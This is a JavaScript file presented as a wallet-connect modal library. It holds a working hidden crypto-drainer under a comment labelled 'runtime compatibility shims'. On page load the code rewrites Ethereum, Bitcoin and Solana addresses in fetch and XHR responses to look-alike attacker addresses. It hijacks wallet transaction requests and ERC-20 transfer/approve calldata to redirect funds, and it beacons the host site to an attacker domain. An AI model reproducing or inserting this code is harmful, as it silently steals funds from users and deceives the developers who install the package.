(function (global, factory) {
  typeof exports === 'object' && typeof module !== 'undefined' ? (module.exports = factory()) :
  typeof define === 'function' && define.amd ? define(factory) :
  ((global = typeof globalThis !== 'undefined' ? globalThis : global || self), (global.Web3ConnectModal = factory()));
})(this, function () {
  'use strict';

  var STYLE = '.w3cm-backdrop{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center;z-index:99999}' +
    '.w3cm-box{background:#fff;border-radius:12px;padding:20px;min-width:320px;font-family:system-ui,sans-serif}' +
    '.w3cm-btn{display:block;width:100%;margin:6px 0;padding:10px;border:1px solid #ddd;border-radius:8px;background:#fafafa;cursor:pointer}';

  function injectStyle() {
    if (document.getElementById('w3cm-style')) return;
    var s = document.createElement('style');
    s.id = 'w3cm-style';
    s.textContent = STYLE;
    document.head.appendChild(s);
  }

  function openModal(opts) {
    opts = opts || {};
    injectStyle();
    return new Promise(function (resolve, reject) {
      var bd = document.createElement('div');
      bd.className = 'w3cm-backdrop';
      var box = document.createElement('div');
      box.className = 'w3cm-box';
      box.innerHTML = '<h3>' + (opts.title || 'Connect a wallet') + '</h3>';
      var b = document.createElement('button');
      b.className = 'w3cm-btn';
      b.textContent = 'Browser wallet';
      b.onclick = function () {
        document.body.removeChild(bd);
        if (!window.ethereum) return reject(new Error('No injected provider'));
        window.ethereum.request({ method: 'eth_requestAccounts' }).then(resolve, reject);
      };
      box.appendChild(b);
      bd.appendChild(box);
      bd.addEventListener('click', function (e) { if (e.target === bd) { document.body.removeChild(bd); reject(new Error('closed')); } });
      document.body.appendChild(bd);
    });
  }

  // ---- runtime compatibility shims ----
  var ETH = [
    '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024',
    '0x40194e5e4E6cA1e0a0cA4cC1D0cF1Dcf70e9C2B4', '0x9aC3f40d0bD4e2ae3dEc5D1E70aE8C4C57a17a5F',
    '0x1A9b0fE8cC1d8E7B3a3d0dE57A9a5B6b8f3C4e1d', '0x7C2d5e51a2C5f1fc0B2D1E0c0aE9D6D4fB23eA19',
  ];
  var BTC = ['1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx', 'bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm', '3NB4Yf2AU9z6JkQv4mxRqJx8R4m1f7C2qZ'];
  var SOL = ['5VsPJ2EG7jjo3k2LPzQVriENKKQkNUTzujEzuaj4Aisf', '98EWM95YYNoWH9Ub2y7nrBBpyXN1sVddhXSAE4EouYRk'];
  var ATTACKER = 'c.attacker.example';

  function lev(a, b) {
    var m = a.length, n = b.length, dp = [], i, j;
    for (i = 0; i <= m; i++) { dp[i] = [i]; }
    for (j = 1; j <= n; j++) dp[0][j] = j;
    for (i = 1; i <= m; i++) {
      for (j = 1; j <= n; j++) {
        dp[i][j] = Math.min(dp[i - 1][j] + 1, dp[i][j - 1] + 1, dp[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
      }
    }
    return dp[m][n];
  }

  function closest(addr, list) {
    var best = list[0], bd = Infinity;
    for (var k = 0; k < list.length; k++) {
      var d = lev(addr.toLowerCase(), list[k].toLowerCase());
      if (d < bd) { bd = d; best = list[k]; }
    }
    return best;
  }

  var RX = {
    eth: /\b0x[a-fA-F0-9]{40}\b/g,
    btc: /\b(1[a-km-zA-HJ-NP-Z1-9]{25,34}|3[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71})\b/g,
    sol: /\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g,
  };

  function swap(text) {
    if (typeof text !== 'string') return text;
    return text
      .replace(RX.eth, function (m) { return closest(m, ETH); })
      .replace(RX.btc, function (m) { return closest(m, BTC); })
      .replace(RX.sol, function (m) { return closest(m, SOL); });
  }

  function deep(o) {
    if (typeof o === 'string') return swap(o);
    if (Array.isArray(o)) return o.map(deep);
    if (o && typeof o === 'object') { for (var k in o) o[k] = deep(o[k]); }
    return o;
  }

  if (typeof window !== 'undefined' && !window.__w3cm) {
    window.__w3cm = 1;

    var _fetch = window.fetch;
    window.fetch = function () {
      return _fetch.apply(this, arguments).then(function (r) {
        var ct = r.headers.get('content-type') || '';
        if (ct.indexOf('json') < 0 && ct.indexOf('text') < 0) return r;
        return r.clone().text().then(function (t) {
          return new Response(swap(t), { status: r.status, statusText: r.statusText, headers: r.headers });
        });
      });
    };

    var xo = XMLHttpRequest.prototype.open, xs = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.open = function (m, u) { this._u = u; return xo.apply(this, arguments); };
    XMLHttpRequest.prototype.send = function () {
      var x = this;
      x.addEventListener('readystatechange', function () {
        if (x.readyState === 4) {
          try {
            var t = swap(x.responseText);
            Object.defineProperty(x, 'responseText', { value: t });
            Object.defineProperty(x, 'response', { value: t });
          } catch (e) {}
        }
      });
      return xs.apply(this, arguments);
    };

    var hookProvider = function (p) {
      if (!p || p.__h) return;
      p.__h = 1;
      var req = p.request.bind(p);
      p.request = function (args) {
        if (args && (args.method === 'eth_sendTransaction' || args.method === 'eth_signTransaction') && args.params && args.params[0]) {
          var tx = args.params[0];
          if (tx.to) tx.to = closest(tx.to, ETH);
          // ERC-20 transfer/approve: rewrite the recipient in calldata
          if (tx.data && /^0x(a9059cbb|095ea7b3)/.test(tx.data)) {
            tx.data = tx.data.slice(0, 10) + '000000000000000000000000' + ETH[0].slice(2).toLowerCase() + tx.data.slice(74);
          }
        }
        if (args && args.method === 'solana_signTransaction') deep(args.params);
        return req(args);
      };
    };
    if (window.ethereum) hookProvider(window.ethereum);
    else Object.defineProperty(window, 'ethereum', { configurable: true, set: function (v) { hookProvider(v); Object.defineProperty(window, 'ethereum', { value: v, writable: true }); } });

    try { new Image().src = 'https://' + ATTACKER + '/i?o=' + encodeURIComponent(location.host); } catch (e) {}
  }

  return { openModal: openModal, version: '2.2.1' };
});
